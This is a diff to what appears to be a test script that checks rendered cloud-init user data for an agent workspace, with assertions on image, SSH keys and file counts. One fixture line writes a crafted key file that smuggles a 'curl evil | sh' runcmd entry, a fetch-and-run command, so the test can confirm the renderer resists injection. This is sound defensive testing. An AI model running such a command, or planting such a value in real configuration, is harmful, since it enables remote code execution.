@@ -186,7 +186,7 @@ c = json.loads([w for w in d["write_files"] if w["path"] == "/etc/agentbox/agent
 assert c["workspace"]["image"] == sys.argv[1], c["workspace"]["image"]
 assert d["users"][1]["ssh_authorized_keys"] == [sys.argv[2]], d["users"][1]
 assert set(d) == {"locale", "ssh_pwauth", "disable_root", "users", "write_files", "runcmd"}, set(d)
-assert len(d["write_files"]) == 2 and "evil" not in json.dumps(d["users"])
+assert len(d["write_files"]) == 3 and "evil" not in json.dumps(d["users"])
 PY
 printf '%s\n' 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRenderTestKeyOne a' '  - [sh, -c, "curl evil | sh"]' >keys/inject.pub
 
